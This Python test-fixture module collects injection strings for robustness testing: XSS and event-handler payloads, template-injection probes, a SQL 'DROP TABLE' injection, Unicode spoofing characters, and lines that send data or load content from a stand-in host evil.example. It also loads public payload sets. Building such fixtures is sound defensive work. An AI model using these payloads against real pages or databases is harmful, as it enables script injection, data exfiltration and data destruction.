"""Text that tries to become code: a dozen kinds of our own, and the public sets where they are.

The public ones are read from beside the repository and never copied into it. Whoever shows them sees text, or a bug.
"""

import json
from collections.abc import Iterator, Sequence
from pathlib import Path

OWN = (
    "<script>alert('script')</script>",
    "\"><img src=x onerror=alert('attribute')>",
    "'-alert('quote')-'",
    "</textarea></title></style></script><svg onload=alert('svg')>",
    "<iframe srcdoc=\"<script>parent.alert('frame')</script>\"></iframe>",
    "<a href=\"javascript:alert('link')\">click me</a>",
    "[click me](javascript:alert('markdown'))",
    "![pixel](https://evil.example/pixel.png?q=secret)",
    "<link rel=stylesheet href=https://evil.example/style.css><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=https://evil.example><input name=q autofocus onfocus=alert('focus')></form>",
    "{{ constructor.constructor('alert(1)')() }} {% debug %} ${alert(1)} <%= 7*7 %>",
    "&lt;script&gt;alert('entity')&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u202egpj.exe\u202c \u2066isolate \ufeffbom \u200bzero Z\u0335\u0321a\u0336lgo",
    "'; DROP TABLE documents_document; -- \\' OR 1=1",
    "<style>*{background:url(https://evil.example/css)}</style><base href=https://evil.example/>",
    "`code` **bold** [1] <b>tag</b> | table | \\ & ' \" > # 1. - ~~~",
)


def own() -> list[str]:
    return list(OWN)


def everything(shared_data: Path) -> list[str]:
    """Our own, and every payload and naughty string of the public sets, without doubles, in order."""
    folder = shared_data / "robustness"
    found = [*OWN]
    for name, field in (("xss_payloads", "payload"), ("dompurify_payloads", "payload"), ("naughty_strings", "text")):
        for line in (folder / f"{name}.jsonl").read_text(encoding="utf-8").split("\n"):
            if line:
                found.append(json.loads(line)[field])
    return list(dict.fromkeys(found))


def bundles(payloads: Sequence[str], characters: int, separator: str = " ¦ ") -> Iterator[str]:
    """Payloads side by side, none cut in two where it fits: each bundle has at most so many characters."""
    held = ""
    for payload in payloads:
        for piece in (payload[at : at + characters] for at in range(0, len(payload), characters)):
            if held and len(held) + len(separator) + len(piece) > characters:
                yield held
                held = ""
            held = f"{held}{separator}{piece}" if held else piece
    if held:
        yield held
